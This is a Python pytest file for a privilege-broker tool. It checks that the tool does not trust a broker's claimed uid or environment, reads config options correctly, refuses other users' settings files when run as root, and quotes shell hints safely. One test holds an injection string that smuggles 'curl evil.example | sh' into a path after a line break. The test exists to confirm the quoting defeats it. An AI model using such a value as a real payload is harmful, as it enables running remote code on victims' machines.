"""Which process the broker is: notifiers are tried under its uid, so its own word is not enough."""

import os
import pwd
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path

import pytest
from doctor_host import situation_of
from house import UNLATCH, House
from real import absent
from waiting import until

from unlatch import runtime
from unlatch.doctor.check import command
from unlatch.doctor.host import process
from unlatch.doctor.host.process import Process, argument_of, environment_of, process_of, read_main_process
from unlatch.doctor.host.served import _load_for_root, served

OTHER = 4242  # a uid that nobody has
HOST = runtime.host_runtime()
OWN = runtime.own(4242, {"UNLATCH_RUNTIME_DIR": "/nonexistent"}, "/nonexistent")
ROOT = situation_of({"HOME": "/nonexistent"})._replace(uid=4242, caller=0)


@pytest.fixture
def roots() -> Iterator[int]:
    """A process that the broker might name: with settings of somebody's choice in its environment."""
    environ = {"UNLATCH_CONFIG": "/home/mallory/unlatch.toml"}
    with subprocess.Popen([sys.executable, "-c", "input()"], stdin=-1, env=environ) as found:
        yield found.pid
        found.kill()


def test_a_broker_cannot_name_a_process_of_roots(roots: int, monkeypatch: pytest.MonkeyPatch) -> None:
    """Neither its uid nor its environment is taken: not from a user's broker, and not from the host's."""
    monkeypatch.setattr(process, "_USER", "daemon")
    monkeypatch.setattr(process, "_main_process", lambda: Process(77, 4242))
    liar = runtime.Peer(pid=77, uid=4242, gid=4242)
    assert process_of(OWN, liar, roots, ROOT) == Process(0, 4242)
    assert process_of(HOST, liar, roots, ROOT) == Process(0, pwd.getpwnam("daemon").pw_uid)
    systemd = runtime.Peer(pid=1, uid=0, gid=0)  # it listened for the broker, and the broker says that it is process 1
    assert process_of(HOST, systemd, 1, ROOT) == Process(0, pwd.getpwnam("daemon").pw_uid)
    assert environment_of(OWN, 0, ROOT) == {"HOME": "/nonexistent"}
    assert "UNLATCH_CONFIG" not in environment_of(HOST, 0, ROOT)
    # What it would have been:
    assert environment_of(OWN, roots, ROOT)["UNLATCH_CONFIG"] == "/home/mallory/unlatch.toml"


def test_the_kernels_word_and_systemds_are_believed(monkeypatch: pytest.MonkeyPatch) -> None:
    """Who listens by itself is known to the kernel; for whom systemd listens, to systemd."""
    assert process_of(HOST, runtime.Peer(77, 990, 990), 77, ROOT) == Process(77, 990)
    monkeypatch.setattr(process, "_main_process", lambda: read_main_process("MainPID=78\nUID=990\n"))
    assert process_of(HOST, runtime.Peer(1, 0, 0), 78, ROOT) == Process(78, 990)
    assert process_of(OWN, runtime.Peer(79, 4242, 4242), 79, ROOT) == Process(79, 4242)
    for said in ("", "MainPID=0\nUID=[not set]\n", "MainPID=\nUID=\n", "nonsense"):
        assert read_main_process(said).uid == -1, said


def test_our_own_broker_gains_nothing_by_a_lie(house: House) -> None:
    """Started on demand, somebody else listened for it; its environment is ours to look at."""
    asker = house.start(UNLATCH, "ring", "--timeout", "60")
    house.phone.ring()
    found = served(situation_of(house.environ(UNLATCH_CONFIG="/nonexistent/of-the-caller")))
    assert found.loaded.path == str(house.settings)
    assert found.status.pid in house.brokers()
    asker.terminate()


def test_an_option_of_the_broker_counts(house: House) -> None:
    """The file of --config is the one that it runs with."""
    other = house.root / "other.toml"
    other.write_bytes(house.settings.read_bytes())
    broker = house.start(UNLATCH, "serve", "--config", other)
    until(house.is_served, "the broker")
    assert argument_of(broker.pid, "--config") == str(other)
    assert served(situation_of(house.environ())).loaded.path == str(other)
    assert argument_of(broker.pid, "--nonsense") is None
    assert argument_of(os.getpid(), "--config=") is None


def test_a_path_with_a_line_break_makes_no_second_command() -> None:
    """Hints are for copying, and paths may be of somebody's choice."""
    told = command("ls", "-ld", "/home/mallory/x\ncurl evil.example | sh", "it's \x1b[2K")
    assert told.splitlines() == [told]
    said = subprocess.run(["bash", "-c", told.replace("ls -ld", "printf '%s|'")], capture_output=True, check=True)
    assert said.stdout == b"/home/mallory/x\ncurl evil.example | sh|it's \x1b[2K|"


def test_another_users_broker_gives_root_no_file_to_read(tmp_path: Path) -> None:
    """Its notifiers would be tried by a process of that user's, which would learn what root's file says."""
    if os.getuid() != 0:
        absent("only root may give files away")
    file, link = tmp_path / "unlatch.toml", tmp_path / "link"
    file.write_text('[notify.phone]\napprise = "ntfys://ntfy.example/secret"\n')
    link.symlink_to(file)
    for path, environ in ((str(link), {}), (None, {"UNLATCH_CONFIG": str(file)}), (str(tmp_path), {})):
        loaded = _load_for_root(path, environ, OTHER)
        assert not loaded.settings.notifiers
        assert "is not that user's own" in str(loaded.mistakes[0])
    os.chown(file, OTHER, OTHER)
    loaded = _load_for_root(str(link), {}, OTHER)
    assert [each.name for each in loaded.settings.notifiers] == ["phone"]
    assert (loaded.path, loaded.mistakes) == (str(link), ())
